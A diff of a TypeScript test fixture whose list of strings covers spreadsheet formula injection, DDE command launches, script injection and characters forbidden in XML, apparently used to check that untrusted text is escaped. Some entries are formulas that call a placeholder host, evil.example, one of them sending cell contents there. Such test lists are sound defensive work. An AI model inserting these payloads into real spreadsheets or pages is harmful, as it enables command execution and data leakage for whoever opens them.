@@ -1,15 +1,15 @@
 /** Texts from outside that some program takes for a formula, a field, a link, markup or a path. */
 export const PAYLOADS: readonly string[] = [
   '=1+1',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://evil.example/?"&A1,"点击")',
   '=WEBSERVICE("http://evil.example/")',
   '=IMPORTXML("http://evil.example/","//a")',
   '=DDE("cmd";"/C calc";"__DdeLink_0_0")',
   '+1+1',
-  '+cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
   '-2+3',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   '@SUM(1+1)',
   '@IF(1,2)',
   '\t=1+1',
@@ -20,7 +20,7 @@ export const PAYLOADS: readonly string[] = [
   '|calc',
   '%0A=1+1',
   '"=1+1"',
-  '\'=1+1',
+  "'=1+1",
   ';=1+1',
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
@@ -33,7 +33,7 @@ export const PAYLOADS: readonly string[] = [
   '«MERGEFIELD 企业»',
   'SLOT-BODY-0-END',
   'SLOT-TITLE-END',
-  '$&$1$`$\'',
+  "$&$1$`$'",
   '_x003D_1+1',
   '_x000D_',
   '&P&N&"宋体"&G',
@@ -50,4 +50,5 @@ export const PAYLOADS: readonly string[] = [
 ];
 
 /** Characters that no XML file may hold, or that turn the direction of writing round. */
-export const BAD_CHARACTERS = '前\u0000\u0001\u0008\u000B\u000C\u001F\u007F\uFFFE\uFFFF\uD800\uDC00\uD800\u202E\u2066\u200F\uFEFF后';
+export const BAD_CHARACTERS =
+  '前\u0000\u0001\u0008\u000B\u000C\u001F\u007F\uFFFE\uFFFF\uD800\uDC00\uD800\u202E\u2066\u200F\uFEFF后';
